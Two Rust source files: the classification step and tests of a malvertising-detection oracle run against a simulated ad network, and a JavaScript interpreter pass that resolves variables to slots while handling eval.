    /// Classifies an already-performed visit (used when the caller batches
    /// visits). On a traced oracle, blacklist lookups and payload scans
    /// become spans, and every incident is echoed into the trace stream
    /// together with its provenance record.
    pub fn classify_visit(&self, visit: &PageVisit, time: SimTime) -> Vec<Incident> {
        let trace = &self.trace;
        let mut incidents = Vec::new();

        // --- Blacklists (§3.2.2): every host the ad's traffic touched. ---
        // Skip the slot-request host itself? No — the paper checked "all the
        // domains we monitored to serve advertisements".
        let mut flagged: BTreeSet<String> = BTreeSet::new();
        let hosts = visit.capture.hosts();
        self.stats
            .inner
            .feed_lookups
            .fetch_add(hosts.len() as u64, Ordering::Relaxed);
        for (hop, host) in hosts.iter().enumerate() {
            let host = *host;
            let span = trace.span(SpanKind::BlacklistLookup, host.as_str());
            let feeds = self.blacklists.listing_feeds(host, time.day);
            span.finish();
            if feeds.len() > self.blacklists.threshold() && flagged.insert(host.to_string()) {
                incidents.push(Incident {
                    incident_type: IncidentType::Blacklists,
                    time,
                    detail: format!("{host} listed by {} feeds", feeds.len()),
                    provenance: Provenance::component(OracleComponent::Blacklists)
                        .at_hop(hop)
                        .with_feeds(feeds.iter().map(|f| f.name.clone()).collect()),
                });
            }
        }

        // --- Honeyclient heuristics (§3.2.1 / §4.1). ---
        let findings = HeuristicFindings::analyze(visit);
        if findings.suspicious_redirection() {
            let mut tells = Vec::new();
            if findings.nx_redirect {
                tells.push("redirect to NX domain");
            }
            if findings.benign_site_redirect {
                tells.push("redirect to benign search site");
            }
            if findings.top_hijack {
                tells.push("top.location hijack");
            }
            incidents.push(Incident {
                incident_type: IncidentType::SuspiciousRedirections,
                time,
                detail: tells.join(", "),
                provenance: Provenance::component(OracleComponent::Honeyclient),
            });
        }
        if findings.heuristic_hit() {
            let mut tells = Vec::new();
            if findings.probe_then_hidden_iframe {
                tells.push("plugin probe followed by hidden iframe");
            }
            if findings.unsolicited_download {
                tells.push("unsolicited download");
            }
            if findings.obfuscation_error {
                tells.push("obfuscated script failure");
            }
            incidents.push(Incident {
                incident_type: IncidentType::Heuristics,
                time,
                detail: tells.join(", "),
                provenance: Provenance::component(OracleComponent::Honeyclient),
            });
        }

        // --- Scanner (§3.2.3): every downloaded file. ---
        let mut exe_hit = false;
        let mut flash_hit = false;
        for download in &visit.downloads {
            let span = trace.span(
                SpanKind::PayloadScan,
                format!("scan {} bytes", download.bytes.len()),
            );
            let report = self.scanner.scan(&download.bytes);
            span.finish();
            if report.positives() >= self.scanner.consensus() {
                let provenance = || {
                    let base = Provenance::component(OracleComponent::Scanner).with_votes(
                        report
                            .detections
                            .iter()
                            .map(|(engine, _)| engine.clone())
                            .collect(),
                    );
                    match hosts.iter().position(|x| Some(*x) == download.url.host()) {
                        Some(hop) => base.at_hop(hop),
                        None => base,
                    }
                };
                match report.kind {
                    Some(PayloadKind::Executable) if !exe_hit => {
                        exe_hit = true;
                        incidents.push(Incident {
                            incident_type: IncidentType::MaliciousExecutables,
                            time,
                            detail: format!(
                                "{} ({}/{} engines)",
                                download.filename.as_deref().unwrap_or("download"),
                                report.positives(),
                                report.total_engines
                            ),
                            provenance: provenance(),
                        });
                    }
                    Some(PayloadKind::Flash) if !flash_hit => {
                        flash_hit = true;
                        incidents.push(Incident {
                            incident_type: IncidentType::MaliciousFlash,
                            time,
                            detail: format!(
                                "{} ({}/{} engines)",
                                download.filename.as_deref().unwrap_or("download"),
                                report.positives(),
                                report.total_engines
                            ),
                            provenance: provenance(),
                        });
                    }
                    _ => {}
                }
            }
        }

        // --- Model detection: exact behaviour-fingerprint match. ---
        let fp = behavior_fingerprint(visit);
        if self.config.known_models.contains(&fp) {
            incidents.push(Incident {
                incident_type: IncidentType::ModelDetection,
                time,
                detail: format!("behaviour model {fp:016x}"),
                provenance: Provenance::component(OracleComponent::ModelDb),
            });
        }

        // Echo every incident into the trace stream with its provenance, so
        // a flagged ad is diagnosable from the trace alone.
        for incident in &incidents {
            trace.incident(
                format!("[{}] {}", incident.incident_type.label(), incident.detail),
                incident.provenance.clone(),
            );
        }

        incidents
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use malvert_adnet::{AdWorld, AdWorldConfig, CampaignBehavior};
    use malvert_types::AdNetworkId;

    struct Fixture {
        network: Network,
        blacklists: BlacklistService,
        scanner: ScanService,
        world: AdWorld,
        tree: SeedTree,
    }

    fn fixture() -> Fixture {
        let tree = SeedTree::new(7);
        let world = AdWorld::generate(tree, &AdWorldConfig::default());
        let mut network = Network::new(tree);
        world.register_servers(&mut network);
        let mut blacklists = BlacklistService::new(tree.branch("blacklists"));
        for (_, domains, active_from) in world.malicious_ground_truth() {
            for d in domains {
                blacklists.register(d, malvert_blacklist::DomainTruth::Malicious { active_from });
            }
        }
        let scanner = ScanService::new(tree.branch("scanner"));
        Fixture {
            network,
            blacklists,
            scanner,
            world,
            tree,
        }
    }

    /// Visits a specific campaign's creative directly by asking a network
    /// that carries it to serve, retrying serve times until that campaign's
    /// creative comes out. Returns (visit, time).
    fn visit_campaign_ad(
        fx: &Fixture,
        oracle: &Oracle<'_>,
        predicate: impl Fn(&CampaignBehavior) -> bool,
    ) -> Option<(PageVisit, SimTime)> {
        let marker_domains: Vec<String> = fx
            .world
            .campaigns()
            .iter()
            .filter(|c| predicate(&c.behavior))
            .flat_map(|c| c.controlled_domains())
            .map(|d| d.to_string())
            .collect();
        for network_idx in 0..fx.world.networks().len() as u32 {
            for day in 60..75 {
                for slot in 0..3usize {
                    let time = SimTime::at(day, 0);
                    let url =
                        fx.world
                            .serve_url(AdNetworkId(network_idx), 1000 + slot as u32, slot);
                    let visit = oracle.honeyclient_visit(&url, time);
                    let touched = visit
                        .capture
                        .hosts()
                        .iter()
                        .any(|h| marker_domains.contains(&h.to_string()))
                        || marker_domains.iter().any(|d| visit.top.html.contains(d));
                    if touched {
                        return Some((visit, time));
                    }
                }
            }
        }
        None
    }

    #[test]
    fn benign_ads_mostly_clean() {
        let fx = fixture();
        let oracle = Oracle::builder(&fx.network, &fx.blacklists, &fx.scanner)
            .seeds(fx.tree)
            .build();
        // Serve from a major network on day 0 repeatedly: fills are almost
        // always benign; count incidents.
        let mut incident_count = 0;
        let mut visits = 0;
        for slot in 0..20usize {
            let url = fx.world.serve_url(AdNetworkId(0), 1, slot);
            let incidents = oracle.classify(&url, SimTime::at(0, 0));
            visits += 1;
            incident_count += incidents.len();
        }
        assert!(visits == 20);
        assert!(
            incident_count <= 6,
            "too many incidents on (mostly benign) major-network fills: {incident_count}"
        );
    }

    #[test]
    fn driveby_campaign_produces_incidents() {
        let fx = fixture();
        let oracle = Oracle::builder(&fx.network, &fx.blacklists, &fx.scanner)
            .seeds(fx.tree)
            .build();
        let (visit, time) = visit_campaign_ad(&fx, &oracle, |b| {
            matches!(b, CampaignBehavior::DriveBy { .. })
        })
        .expect("a drive-by ad is servable");
        let incidents = oracle.classify_visit(&visit, time);
        assert!(
            !incidents.is_empty(),
            "drive-by ad triggered nothing: events={:?}",
            visit.events
        );
    }

    #[test]
    fn deceptive_campaign_yields_executable_incident() {
        let fx = fixture();
        let oracle = Oracle::builder(&fx.network, &fx.blacklists, &fx.scanner)
            .seeds(fx.tree)
            .build();
        let (visit, time) = visit_campaign_ad(&fx, &oracle, |b| {
            matches!(b, CampaignBehavior::Deceptive { .. })
        })
        .expect("a deceptive ad is servable");
        let incidents = oracle.classify_visit(&visit, time);
        let types: Vec<IncidentType> = incidents.iter().map(|i| i.incident_type).collect();
        assert!(
            types.contains(&IncidentType::MaliciousExecutables)
                || types.contains(&IncidentType::Heuristics),
            "deceptive ad not caught: {types:?}"
        );
    }

    #[test]
    fn hijack_campaign_yields_suspicious_redirection() {
        let fx = fixture();
        let oracle = Oracle::builder(&fx.network, &fx.blacklists, &fx.scanner)
            .seeds(fx.tree)
            .build();
        let (visit, time) = visit_campaign_ad(&fx, &oracle, |b| {
            matches!(b, CampaignBehavior::Hijack { .. })
        })
        .expect("a hijack ad is servable");
        let incidents = oracle.classify_visit(&visit, time);
        let types: Vec<IncidentType> = incidents.iter().map(|i| i.incident_type).collect();
        assert!(
            types.contains(&IncidentType::SuspiciousRedirections),
            "hijack not caught: {types:?}"
        );
    }

    #[test]
    fn model_detection_requires_seeded_fingerprint() {
        let fx = fixture();
        let oracle = Oracle::builder(&fx.network, &fx.blacklists, &fx.scanner)
            .seeds(fx.tree)
            .build();
        let (visit, time) = visit_campaign_ad(&fx, &oracle, |b| {
            matches!(b, CampaignBehavior::Deceptive { .. })
        })
        .expect("ad servable");
        // Without the model DB, no model incident.
        let incidents = oracle.classify_visit(&visit, time);
        assert!(!incidents
            .iter()
            .any(|i| i.incident_type == IncidentType::ModelDetection));
        // Seed the model DB with this behaviour and re-classify.
        let fp = behavior_fingerprint(&visit);
        let oracle2 = Oracle::builder(&fx.network, &fx.blacklists, &fx.scanner)
            .known_models(vec![fp])
            .seeds(fx.tree)
            .build();
        let incidents = oracle2.classify_visit(&visit, time);
        assert!(incidents
            .iter()
            .any(|i| i.incident_type == IncidentType::ModelDetection));
    }

    #[test]
    fn stats_count_visits_and_feed_lookups() {
        let fx = fixture();
        let stats = OracleStats::new();
        let oracle = Oracle::builder(&fx.network, &fx.blacklists, &fx.scanner)
            .seeds(fx.tree)
            .stats(stats.clone())
            .build();
        assert_eq!(stats.visits(), 0);
        let url = fx.world.serve_url(AdNetworkId(0), 1, 0);
        oracle.classify(&url, SimTime::at(0, 0));
        oracle.classify(&url, SimTime::at(0, 0));
        assert_eq!(stats.visits(), 2);
        // Every classified visit touches at least the serve host, so the
        // blacklist layer performs at least one lookup per visit.
        assert!(stats.feed_lookups() >= 2);
        // Both handles view the same counters.
        assert_eq!(oracle.stats().visits(), stats.visits());
    }

    #[test]
    fn degraded_visit_still_classifies() {
        // A honeyclient visit over a lossy network keeps whatever evidence
        // it gathered; classification consumes the partial visit instead of
        // aborting, and stays deterministic.
        let mut fx = fixture();
        fx.network
            .set_fault_profile(Some(malvert_net::FaultProfile {
                truncated_body: 1.0,
                ..malvert_net::FaultProfile::default()
            }));
        let oracle = Oracle::builder(&fx.network, &fx.blacklists, &fx.scanner)
            .seeds(fx.tree)
            .build();
        let url = fx.world.serve_url(AdNetworkId(0), 1, 0);
        let visit = oracle.honeyclient_visit(&url, SimTime::at(0, 0));
        assert!(!visit.top.failed, "truncation must not fail the visit");
        assert!(visit.degraded);
        assert!(visit.errors.truncated_bodies > 0);
        let a = oracle.classify_visit(&visit, SimTime::at(0, 0));
        let b = oracle.classify_visit(&visit, SimTime::at(0, 0));
        assert_eq!(a, b);
    }

    #[test]
    fn classification_deterministic() {
        let fx = fixture();
        let oracle = Oracle::builder(&fx.network, &fx.blacklists, &fx.scanner)
            .seeds(fx.tree)
            .build();
        let url = fx.world.serve_url(AdNetworkId(5), 42, 1);
        let a = oracle.classify(&url, SimTime::at(30, 2));
        let b = oracle.classify(&url, SimTime::at(30, 2));
        assert_eq!(a, b);
    }
}
