//! Static resolution: binds local variable references to `(depth, slot)`
//! pairs so the interpreter can replace `HashMap` probes with `Vec` indexing.
//!
//! The pass runs once per compile, right after parsing, and rewrites
//! [`Expr::Ident`] nodes into [`Expr::Local`] when the binding is statically
//! known. The scope model mirrors the interpreter's environment chain
//! exactly — one scope per function body and one per `catch` handler; blocks
//! are transparent — so a `Local`'s depth equals the number of runtime
//! `parent` hops at the use site.
//!
//! Resolution is deliberately conservative; the rewrite must be invisible:
//!
//! * **Global scope** stays dynamic. Top-level code, `set_global` bindings,
//!   and undeclared-assignment globals all resolve by name.
//! * **`catch` scopes** stay dynamic too (their bindings live in the
//!   environment's by-name map), but they still count as one hop and their
//!   statically-known names (the bound exception plus `var`s inside the
//!   handler) block resolution of shadowed outer names.
//! * **Direct `eval`** can introduce bindings into the calling scope at
//!   runtime. Any scope whose immediate code mentions `eval` is tainted: a
//!   name search that would walk *past* it gives up and stays by-name. A
//!   name *declared* by a tainted scope still resolves — eval-introduced
//!   `var`s write the declared slot, so slot reads observe them.
//! * **`typeof x`** keeps a raw identifier operand so the interpreter can
//!   special-case unresolvable names to `"undefined"` without throwing.
//!
//! A slot that has not been written yet (its `var` has not executed) reads
//! as *absent*, and the interpreter falls back to the by-name walk the
//! unresolved engine would perform — so the rewrite never changes what a
//! program observes, only how fast it observes it.

use crate::ast::*;
use std::sync::Arc;

/// Resolves `program` in place. Called by the parser on every compile.
pub(crate) fn resolve_program(program: &mut Program) {
    // The global scope terminates every search; its contents are dynamic.
    let mut scopes = vec![Scope {
        names: Vec::new(),
        slotted: false,
        tainted: false,
    }];
    walk_stmts(&mut program.body, &mut scopes);
}

struct Scope {
    names: Vec<Name>,
    /// Function scopes get slots; global and `catch` scopes stay by-name.
    slotted: bool,
    /// Whether the scope's immediate code mentions `eval`.
    tainted: bool,
}

/// Innermost-first search. `scopes[0]` is the global scope.
fn resolve_ident(name: &str, scopes: &[Scope]) -> Option<(u32, u32)> {
    for (hops, scope) in scopes.iter().rev().enumerate() {
        let is_global = hops + 1 == scopes.len();
        if is_global {
            return None;
        }
        if let Some(slot) = scope.names.iter().position(|n| n.as_ref() == name) {
            if scope.slotted {
                return Some((hops as u32, slot as u32));
            }
            return None; // catch binding: stays by-name
        }
        if scope.tainted {
            return None; // eval may add this name here at runtime
        }
    }
    None
}

fn push_name(names: &mut Vec<Name>, n: &Name) {
    if !names.iter().any(|x| x.as_ref() == n.as_ref()) {
        names.push(n.clone());
    }
}

/// Collects the names a scope declares: `var`s, function declarations, and
/// `for..in` bindings. Recurses through transparent constructs (blocks,
/// loops, `try`/`finally`, `switch` arms) but not into nested functions or
/// `catch` handlers — those own their declarations.
fn collect_decls(stmts: &[Stmt], names: &mut Vec<Name>) {
    for s in stmts {
        collect_stmt(s, names);
    }
}

fn collect_stmt(s: &Stmt, names: &mut Vec<Name>) {
    match s {
        Stmt::Var(decls) => {
            for (n, _) in decls {
                push_name(names, n);
            }
        }
        Stmt::FnDecl(def) => {
            if let Some(n) = &def.name {
                push_name(names, n);
            }
        }
        Stmt::Block(b) => collect_decls(b, names),
        Stmt::If { then, alt, .. } => {
            collect_stmt(then, names);
            if let Some(a) = alt {
                collect_stmt(a, names);
            }
        }
        Stmt::While { body, .. } | Stmt::DoWhile { body, .. } => collect_stmt(body, names),
        Stmt::For { init, body, .. } => {
            if let Some(i) = init {
                collect_stmt(i, names);
            }
            collect_stmt(body, names);
        }
        Stmt::Switch { cases, .. } => {
            for (_, b) in cases {
                collect_decls(b, names);
            }
        }
        Stmt::ForIn { name, body, .. } => {
            push_name(names, name);
            collect_stmt(body, names);
        }
        Stmt::Try { block, finally, .. } => {
            collect_decls(block, names);
            if let Some(f) = finally {
                collect_decls(f, names);
            }
        }
        Stmt::Expr(_)
        | Stmt::Return(_)
        | Stmt::Break
        | Stmt::Continue
        | Stmt::Throw(_)
        | Stmt::Empty => {}
    }
}

/// Whether the scope's immediate code mentions the identifier `eval`.
/// Stops at nested functions and `catch` handlers (their own scopes carry
/// their own taint).
fn mentions_eval(stmts: &[Stmt]) -> bool {
    stmts.iter().any(eval_in_stmt)
}

fn eval_in_stmt(s: &Stmt) -> bool {
    match s {
        Stmt::Var(decls) => decls
            .iter()
            .any(|(_, init)| init.as_ref().is_some_and(eval_in_expr)),
        Stmt::Expr(e) | Stmt::Throw(e) => eval_in_expr(e),
        Stmt::Block(b) => mentions_eval(b),
        Stmt::If { cond, then, alt } => {
            eval_in_expr(cond)
                || eval_in_stmt(then)
                || alt.as_ref().is_some_and(|a| eval_in_stmt(a))
        }
        Stmt::While { cond, body } | Stmt::DoWhile { body, cond } => {
            eval_in_expr(cond) || eval_in_stmt(body)
        }
        Stmt::For {
            init,
            cond,
            update,
            body,
        } => {
            init.as_ref().is_some_and(|i| eval_in_stmt(i))
                || cond.as_ref().is_some_and(eval_in_expr)
                || update.as_ref().is_some_and(eval_in_expr)
                || eval_in_stmt(body)
        }
        Stmt::Switch { disc, cases } => {
            eval_in_expr(disc)
                || cases
                    .iter()
                    .any(|(t, b)| t.as_ref().is_some_and(eval_in_expr) || mentions_eval(b))
        }
        Stmt::ForIn { object, body, .. } => eval_in_expr(object) || eval_in_stmt(body),
        Stmt::FnDecl(_) => false,
        Stmt::Return(e) => e.as_ref().is_some_and(eval_in_expr),
        Stmt::Try { block, finally, .. } => {
            mentions_eval(block) || finally.as_ref().is_some_and(|f| mentions_eval(f))
        }
        Stmt::Break | Stmt::Continue | Stmt::Empty => false,
    }
}

fn eval_in_expr(e: &Expr) -> bool {
    match e {
        Expr::Ident(name) => name.as_ref() == "eval",
        Expr::Local { .. }
        | Expr::Num(_)
        | Expr::Str(_)
        | Expr::Bool(_)
        | Expr::Null
        | Expr::Undefined
        | Expr::This => false,
        Expr::Array(items) => items.iter().any(eval_in_expr),
        Expr::Object(props) => props.iter().any(|(_, v)| eval_in_expr(v)),
        Expr::Function(_) => false,
        Expr::Assign { target, value, .. } => eval_in_expr(target) || eval_in_expr(value),
        Expr::Cond { cond, then, alt } => {
            eval_in_expr(cond) || eval_in_expr(then) || eval_in_expr(alt)
        }
        Expr::Or(a, b) | Expr::And(a, b) | Expr::Seq(a, b) => eval_in_expr(a) || eval_in_expr(b),
        Expr::Bin { lhs, rhs, .. } => eval_in_expr(lhs) || eval_in_expr(rhs),
        Expr::Un { operand, .. } => eval_in_expr(operand),
        Expr::IncDec { target, .. } => eval_in_expr(target),
        Expr::Member { object, .. } => eval_in_expr(object),
        Expr::Index { object, index } => eval_in_expr(object) || eval_in_expr(index),
        Expr::Call { callee, args } | Expr::New { callee, args } => {
            eval_in_expr(callee) || args.iter().any(eval_in_expr)
        }
    }
}

/// Whether any code below `stmts` — *including* nested functions and
/// `catch` handlers — could observe the caller-built `arguments` array of
/// the enclosing function: a direct `arguments` identifier, or any mention
/// of `eval` (a direct eval anywhere below executes in an environment whose
/// parent chain reaches the enclosing call scope, so it can look the name
/// up dynamically). Deliberately deeper than [`mentions_eval`], and
/// conservative: a nested function's own `arguments` also trips it.
fn observes_arguments(stmts: &[Stmt]) -> bool {
    stmts.iter().any(args_in_stmt)
}

fn args_in_stmt(s: &Stmt) -> bool {
    match s {
        Stmt::Var(decls) => decls
            .iter()
            .any(|(_, init)| init.as_ref().is_some_and(args_in_expr)),
        Stmt::Expr(e) | Stmt::Throw(e) => args_in_expr(e),
        Stmt::Block(b) => observes_arguments(b),
        Stmt::If { cond, then, alt } => {
            args_in_expr(cond)
                || args_in_stmt(then)
                || alt.as_ref().is_some_and(|a| args_in_stmt(a))
        }
        Stmt::While { cond, body } | Stmt::DoWhile { body, cond } => {
            args_in_expr(cond) || args_in_stmt(body)
        }
        Stmt::For {
            init,
            cond,
            update,
            body,
        } => {
            init.as_ref().is_some_and(|i| args_in_stmt(i))
                || cond.as_ref().is_some_and(args_in_expr)
                || update.as_ref().is_some_and(args_in_expr)
                || args_in_stmt(body)
        }
        Stmt::Switch { disc, cases } => {
            args_in_expr(disc)
                || cases
                    .iter()
                    .any(|(t, b)| t.as_ref().is_some_and(args_in_expr) || observes_arguments(b))
        }
        Stmt::ForIn { object, body, .. } => args_in_expr(object) || args_in_stmt(body),
        Stmt::FnDecl(def) => observes_arguments(&def.body),
        Stmt::Return(e) => e.as_ref().is_some_and(args_in_expr),
        Stmt::Try {
            block,
            catch,
            finally,
        } => {
            observes_arguments(block)
                || catch
                    .as_ref()
                    .is_some_and(|(_, handler)| observes_arguments(handler))
                || finally.as_ref().is_some_and(|f| observes_arguments(f))
        }
        Stmt::Break | Stmt::Continue | Stmt::Empty => false,
    }
}

fn args_in_expr(e: &Expr) -> bool {
    match e {
        Expr::Ident(name) | Expr::Local { name, .. } => {
            name.as_ref() == "arguments" || name.as_ref() == "eval"
        }
        Expr::Num(_) | Expr::Str(_) | Expr::Bool(_) | Expr::Null | Expr::Undefined | Expr::This => {
            false
        }
        Expr::Array(items) => items.iter().any(args_in_expr),
        Expr::Object(props) => props.iter().any(|(_, v)| args_in_expr(v)),
        Expr::Function(def) => observes_arguments(&def.body),
        Expr::Assign { target, value, .. } => args_in_expr(target) || args_in_expr(value),
        Expr::Cond { cond, then, alt } => {
            args_in_expr(cond) || args_in_expr(then) || args_in_expr(alt)
        }
        Expr::Or(a, b) | Expr::And(a, b) | Expr::Seq(a, b) => args_in_expr(a) || args_in_expr(b),
        Expr::Bin { lhs, rhs, .. } => args_in_expr(lhs) || args_in_expr(rhs),
        Expr::Un { operand, .. } => args_in_expr(operand),
        Expr::IncDec { target, .. } => args_in_expr(target),
        Expr::Member { object, .. } => args_in_expr(object),
        Expr::Index { object, index } => args_in_expr(object) || args_in_expr(index),
        Expr::Call { callee, args } | Expr::New { callee, args } => {
            args_in_expr(callee) || args.iter().any(args_in_expr)
        }
    }
}

fn walk_stmts(stmts: &mut [Stmt], scopes: &mut Vec<Scope>) {
    for s in stmts {
        walk_stmt(s, scopes);
    }
}

fn walk_stmt(s: &mut Stmt, scopes: &mut Vec<Scope>) {
    match s {
        Stmt::Var(decls) => {
            for (_, init) in decls {
                if let Some(e) = init {
                    walk_expr(e, scopes);
                }
            }
        }
        Stmt::Expr(e) | Stmt::Throw(e) => walk_expr(e, scopes),
        Stmt::Block(b) => walk_stmts(b, scopes),
        Stmt::If { cond, then, alt } => {
            walk_expr(cond, scopes);
            walk_stmt(then, scopes);
            if let Some(a) = alt {
                walk_stmt(a, scopes);
            }
        }
        Stmt::While { cond, body } | Stmt::DoWhile { body, cond } => {
            walk_expr(cond, scopes);
            walk_stmt(body, scopes);
        }
        Stmt::For {
            init,
            cond,
            update,
            body,
        } => {
            if let Some(i) = init {
                walk_stmt(i, scopes);
            }
            if let Some(c) = cond {
                walk_expr(c, scopes);
            }
            if let Some(u) = update {
                walk_expr(u, scopes);
            }
            walk_stmt(body, scopes);
        }
        Stmt::Switch { disc, cases } => {
            walk_expr(disc, scopes);
            for (t, b) in cases {
                if let Some(t) = t {
                    walk_expr(t, scopes);
                }
                walk_stmts(b, scopes);
            }
        }
        Stmt::ForIn { object, body, .. } => {
            // The loop variable is (re)declared by name each iteration;
            // references to it inside the body resolve like any other.
            walk_expr(object, scopes);
            walk_stmt(body, scopes);
        }
        Stmt::FnDecl(def) => {
            // Freshly parsed definitions are uniquely owned; sharing only
            // begins at runtime. Same skip-on-shared policy as the body Arc.
            if let Some(def) = Arc::get_mut(def) {
                walk_fn(def, scopes);
            }
        }
        Stmt::Return(e) => {
            if let Some(e) = e {
                walk_expr(e, scopes);
            }
        }
        Stmt::Try {
            block,
            catch,
            finally,
        } => {
            walk_stmts(block, scopes);
            if let Some((name, handler)) = catch {
                let mut names = vec![name.clone()];
                collect_decls(handler, &mut names);
                let tainted = mentions_eval(handler);
                scopes.push(Scope {
                    names,
                    slotted: false,
                    tainted,
                });
                walk_stmts(handler, scopes);
                scopes.pop();
            }
            if let Some(f) = finally {
                walk_stmts(f, scopes);
            }
        }
        Stmt::Break | Stmt::Continue | Stmt::Empty => {}
    }
}

fn walk_fn(def: &mut FnDef, scopes: &mut Vec<Scope>) {
    let mut names: Vec<Name> = Vec::new();
    let mut param_slots: Vec<u32> = Vec::with_capacity(def.params.len());
    for p in &def.params {
        push_name(&mut names, p);
        let slot = names
            .iter()
            .position(|n| n.as_ref() == p.as_ref())
            .expect("parameter was just pushed");
        param_slots.push(slot as u32);
    }
    push_name(&mut names, &Name::from("arguments"));
    collect_decls(&def.body, &mut names);
    let tainted = mentions_eval(&def.body);
    let arguments_unused = !observes_arguments(&def.body);
    // A free name in this body resolves at the global scope exactly when
    // nothing on the way up can bind it dynamically: neither this body nor
    // any enclosing function scope mentions `eval`, and no `catch` scope
    // (non-slotted) sits in the chain. `scopes[0]` is the global scope
    // itself — its dynamism is where the name *lands*, not an obstacle.
    let globals_safe = !tainted && scopes[1..].iter().all(|s| s.slotted && !s.tainted);
    def.scope = Arc::new(ScopeInfo {
        names: names.clone(),
        param_slots,
        arguments_unused,
        globals_safe,
    });
    scopes.push(Scope {
        names,
        slotted: true,
        tainted,
    });
    // The body Arc is still unique at resolve time (the tree was just
    // built); if it ever is not, we skip the rewrite — unresolved code is
    // merely slower, never wrong.
    if let Some(body) = Arc::get_mut(&mut def.body) {
        walk_stmts(body, scopes);
    }
    scopes.pop();
}

fn walk_expr(e: &mut Expr, scopes: &mut Vec<Scope>) {
    match e {
        Expr::Ident(name) => {
            if let Some((depth, slot)) = resolve_ident(name, scopes) {
                *e = Expr::Local {
                    name: name.clone(),
                    depth,
                    slot,
                };
            }
        }
        Expr::Un {
            op: UnOp::Typeof,
            operand,
        } => {
            // Keep `typeof ident` operands raw (see module docs).
            if !matches!(operand.as_ref(), Expr::Ident(_)) {
                walk_expr(operand, scopes);
            }
        }
        Expr::Function(def) => {
            if let Some(def) = Arc::get_mut(def) {
                walk_fn(def, scopes);
            }
        }
        Expr::Local { .. }
        | Expr::Num(_)
        | Expr::Str(_)
        | Expr::Bool(_)
        | Expr::Null
        | Expr::Undefined
        | Expr::This => {}
        Expr::Array(items) => {
            for item in items {
                walk_expr(item, scopes);
            }
        }
        Expr::Object(props) => {
            for (_, v) in props {
                walk_expr(v, scopes);
            }
        }
        Expr::Assign { target, value, .. } => {
            walk_expr(target, scopes);
            walk_expr(value, scopes);
        }
        Expr::Cond { cond, then, alt } => {
            walk_expr(cond, scopes);
            walk_expr(then, scopes);
            walk_expr(alt, scopes);
        }
        Expr::Or(a, b) | Expr::And(a, b) | Expr::Seq(a, b) => {
            walk_expr(a, scopes);
            walk_expr(b, scopes);
        }
        Expr::Bin { lhs, rhs, .. } => {
            walk_expr(lhs, scopes);
            walk_expr(rhs, scopes);
        }
        Expr::Un { operand, .. } => walk_expr(operand, scopes),
        Expr::IncDec { target, .. } => walk_expr(target, scopes),
        Expr::Member { object, .. } => walk_expr(object, scopes),
        Expr::Index { object, index } => {
            walk_expr(object, scopes);
            walk_expr(index, scopes);
        }
        Expr::Call { callee, args } | Expr::New { callee, args } => {
            walk_expr(callee, scopes);
            for a in args {
                walk_expr(a, scopes);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::ast::{Expr, Stmt};
    use crate::parser::parse_program;

    fn first_fn_body(src: &str) -> Vec<Stmt> {
        let p = parse_program(src).unwrap();
        match &p.body[0] {
            Stmt::FnDecl(def) => def.body.as_ref().clone(),
            other => panic!("expected function, got {other:?}"),
        }
    }

    fn returned_expr(body: &[Stmt]) -> &Expr {
        for s in body {
            if let Stmt::Return(Some(e)) = s {
                return e;
            }
        }
        panic!("no return in {body:?}");
    }

    #[test]
    fn params_resolve_to_slots() {
        let body = first_fn_body("function f(a, b) { return b; }");
        match returned_expr(&body) {
            Expr::Local { name, depth, slot } => {
                assert_eq!(name.as_ref(), "b");
                assert_eq!(*depth, 0);
                assert_eq!(*slot, 1);
            }
            other => panic!("expected Local, got {other:?}"),
        }
    }

    #[test]
    fn vars_resolve_and_globals_stay_by_name() {
        let body = first_fn_body("function f() { var x = g; return x; }");
        assert!(matches!(returned_expr(&body), Expr::Local { depth: 0, .. }));
        // `g` is free: stays an Ident.
        match &body[0] {
            Stmt::Var(decls) => assert!(matches!(decls[0].1, Some(Expr::Ident(_)))),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn closures_resolve_across_function_scopes() {
        let body =
            first_fn_body("function outer() { var n = 0; return function() { return n; }; }");
        let inner = match returned_expr(&body) {
            Expr::Function(def) => def.body.as_ref().clone(),
            other => panic!("expected function expr, got {other:?}"),
        };
        assert!(matches!(
            returned_expr(&inner),
            Expr::Local { depth: 1, .. }
        ));
    }

    #[test]
    fn eval_taints_the_scope() {
        // `x` is declared here, so it still resolves; free `y` must stay
        // by-name because eval could introduce it.
        let body = first_fn_body("function f() { var x = 1; eval(s); return x; }");
        assert!(matches!(returned_expr(&body), Expr::Local { .. }));
        let body = first_fn_body("function g() { eval(s); return y; }");
        assert!(matches!(returned_expr(&body), Expr::Ident(_)));
    }

    #[test]
    fn eval_in_inner_scope_blocks_pass_through() {
        // Resolution from inside the eval-tainted inner function must not
        // skip past it to the outer `n`.
        let body = first_fn_body(
            "function outer() { var n = 1; return function() { eval(s); return n; }; }",
        );
        let inner = match returned_expr(&body) {
            Expr::Function(def) => def.body.as_ref().clone(),
            other => panic!("expected function expr, got {other:?}"),
        };
        assert!(matches!(returned_expr(&inner), Expr::Ident(_)));
    }

    #[test]
    fn globals_safe_tracks_eval_and_catch_scopes() {
        fn flag_of(src: &str) -> bool {
            match &parse_program(src).unwrap().body[0] {
                Stmt::FnDecl(def) => def.scope.globals_safe,
                other => panic!("expected function, got {other:?}"),
            }
        }
        // Eval-free chains prove free names global.
        assert!(flag_of("function f() { return g; }"));
        // The body's own eval can bind free names locally at runtime.
        assert!(!flag_of("function f() { eval(s); return g; }"));

        // Nested in an eval-free function: still safe.
        let body = first_fn_body("function o() { return function() { return g; }; }");
        match returned_expr(&body) {
            Expr::Function(def) => assert!(def.scope.globals_safe),
            other => panic!("expected function expr, got {other:?}"),
        }
        // Nested in an eval-tainted function: the enclosing scope may gain
        // the name dynamically.
        let body = first_fn_body("function o() { eval(s); return function() { return g; }; }");
        match returned_expr(&body) {
            Expr::Function(def) => assert!(!def.scope.globals_safe),
            other => panic!("expected function expr, got {other:?}"),
        }
        // Defined inside a catch handler: the dynamic scope intervenes.
        let body = first_fn_body(
            "function o() { try { g(); } catch (e) { return function() { return g; }; } }",
        );
        let handler = match &body[0] {
            Stmt::Try { catch, .. } => &catch.as_ref().unwrap().1,
            other => panic!("unexpected {other:?}"),
        };
        match &handler[0] {
            Stmt::Return(Some(Expr::Function(def))) => assert!(!def.scope.globals_safe),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn typeof_operand_stays_raw() {
        let body = first_fn_body("function f(x) { return typeof x; }");
